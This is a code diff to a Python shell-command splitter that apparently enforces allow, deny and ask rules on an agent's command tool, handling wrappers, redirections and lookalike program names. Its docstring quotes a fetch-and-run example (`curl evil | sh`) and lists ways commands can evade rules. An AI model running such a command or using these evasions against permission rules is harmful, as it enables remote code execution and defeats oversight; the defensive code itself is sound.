@@ -2,10 +2,12 @@
 
 A rule such as `allow run_command(pytest*)` must not allow `pytest -q; curl evil | sh`, and
 `deny run_command(git push*)` must catch `true && /usr/bin/git push`. So rules are matched
-against each simple command of the line, with the program name normalised (path and wrappers
-such as `env`, `command`, `sudo`, `timeout` taken off, `sh -c '...'` parsed too). What this cannot
-follow with certainty (command substitution, `eval`, here-documents, `find -exec`, a program
-name built from variables) makes the line unparsable, and an unparsable line asks.
+against each simple command of the line. Deny and ask rules see it normalised (path and
+wrappers such as `env`, `command`, `sudo`, `timeout` taken off, `sh -c '...'` parsed too), so
+they catch more; allow rules see it as written (`SimpleCommand.written`), so `pytest *` does not
+allow `./pytest` or `PATH=. pytest`. What this cannot follow with certainty (command
+substitution, `eval`, here-documents, `find -exec`, a program name built from variables) makes
+the line unparsable, and an unparsable line asks.
 """
 
 from __future__ import annotations
@@ -13,10 +15,13 @@ from __future__ import annotations
 import os
 import re
 import shlex
+from dataclasses import dataclass
 
 OPERATORS = {";", "&", "&&", "|", "||", "|&", "\n", "(", ")", ";;"}
 _REDIRECT = re.compile(r"^[0-9]*(?:<|>|>>|<>|>&|<&|&>|&>>|>\|)$")
 _ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
+# A program named bare, found on PATH: ASCII only, so `pytеst` (Cyrillic е) is not `pytest`.
+BARE_PROGRAM = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.+-]*", re.ASCII)
 # Programs that run the rest of their arguments as a command, with how many option words they
 # take before it (None: skip words that start with '-', plus the values of these options).
 _WRAPPERS = {
@@ -53,8 +58,25 @@ class Unparsable(ValueError):
     """The line does something the splitter cannot follow; the message says what."""
 
 
+@dataclass(frozen=True)
+class SimpleCommand:
+    """One simple command of a line, both ways a rule may read it."""
+
+    written: list[str]  # its words as written (assignments, wrappers, paths kept)
+    runs: list[list[str]]  # what it runs, normalised: for deny and ask rules
+    writes: bool = False  # it redirects output into a file
+
+
 def split_commands(line: str) -> list[list[str]]:
     """Every simple command `line` would run, as word lists with normalised program names.
+
+    Raises `Unparsable` for what cannot be judged safely from the text alone.
+    """
+    return [words for command in simple_commands(line) for words in command.runs]
+
+
+def simple_commands(line: str) -> list[SimpleCommand]:
+    """The simple commands of `line` as written, each with what it runs (`split_commands`).
 
     Raises `Unparsable` for what cannot be judged safely from the text alone.
     """
@@ -77,31 +99,38 @@ def split_commands(line: str) -> list[list[str]]:
         tokens = list(lexer)
     except ValueError as exc:  # unbalanced quotes
         raise Unparsable(str(exc)) from None
-    commands: list[list[str]] = []
+    commands: list[SimpleCommand] = []
     current: list[str] = []
-    skip_next = False
+    writes = False
+    redirect: str | None = None
     for token in tokens:
-        if skip_next:
-            skip_next = False
+        if redirect is not None:
+            writes = writes or _writes_a_file(redirect, token)
+            redirect = None
             continue
         if token in OPERATORS or set(token) <= set(";&|()\n"):
             if current:
-                commands.append(current)
-            current = []
+                commands.append(SimpleCommand(current, _unwrap(current), writes))
+            current, writes = [], False
         elif _REDIRECT.match(token):
             if current and current[-1].isdigit():
                 current.pop()  # `2>&1`: the 2 belongs to the redirection
-            skip_next = True  # the redirection's target is not a command word
+            redirect = token  # the redirection's target is not a command word
         elif token in ("{", "}", "!"):
             continue
         else:
             current.append(token)
     if current:
-        commands.append(current)
-    out: list[list[str]] = []
-    for words in commands:
-        out += _unwrap(words)
-    return out
+        commands.append(SimpleCommand(current, _unwrap(current), writes))
+    return commands
+
+
+def _writes_a_file(operator: str, target: str) -> bool:
+    """Whether a redirection writes a file (`> out.txt`), not a descriptor (`2>&1`, `>&2`) or
+    /dev/null: such a write is an edit no wildcard allow rule covers."""
+    if ">" not in operator or target == "/dev/null":
+        return False
+    return not (operator.endswith("&") and (target.isdigit() or target == "-"))
 
 
 def plain_words(line: str) -> list[str] | None:
